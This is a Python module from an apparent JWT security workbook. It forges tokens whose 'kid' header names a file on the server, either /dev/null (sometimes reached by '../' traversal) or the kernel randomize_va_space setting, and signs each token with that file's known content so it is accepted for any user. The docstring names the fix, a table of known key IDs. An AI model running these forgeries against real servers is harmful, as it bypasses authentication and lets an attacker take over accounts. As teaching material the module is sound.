"""A header can name its key: `kid`. Where the server reads the key from a file of
that name, the attacker names another file of the same machine whose content they know,
such as `/dev/null`, which is empty. They sign a token for any user with that content.
What stops it is a table of the keys that exist: a `kid` that isn't in it is refused."""

import os
from pathlib import PurePath

from workbook.attacks.attack import ClassicAttack, paragraph
from workbook.attacks.classics.forging import original, random_key, show_each
from workbook.attacks.target import Target

# An empty file that every machine has: /dev/null, or nul.
EMPTY_FILE = PurePath(os.devnull)
UPWARDS = "../" * 12


def attempt(target: Target) -> tuple[bool, str]:
    token = original(target)
    above = UPWARDS + EMPTY_FILE.as_posix().lstrip("/")
    # One or two digits, on every Linux (jwt_tool tries it too).
    setting = "proc/sys/kernel/randomize_va_space"
    forged = {
        f"kid {EMPTY_FILE} and an empty key": token.signed("", kid=str(EMPTY_FILE)),
        f"kid {above} and an empty key": token.signed("", kid=above),
        **{
            f"kid /{setting} and the key {key!r}": token.signed(key, kid=f"/{setting}")
            for key in ("2", "2\n")
        },
    }
    return show_each(
        target,
        forged,
        control=token.signed("", kid=random_key()),
        without="an empty key and any kid",
    )


ATTACK = ClassicAttack(
    name="name_a_file_as_the_key",
    title="Name a file as the key (kid)",
    attacker="anyone",
    has="network access, a username, and a file that every server has",
    step="step04_jwt",
    mistake="kid is the name of a file",
    shows="A token with kid /dev/null and an empty key: 200 with johndoe@example.com.",
    sources="RFC 7515, section 4.1.4; RFC 8725, sections 2.9 and 3.10; CWE-22.",
    description=paragraph(__doc__),
    attempt=attempt,
)
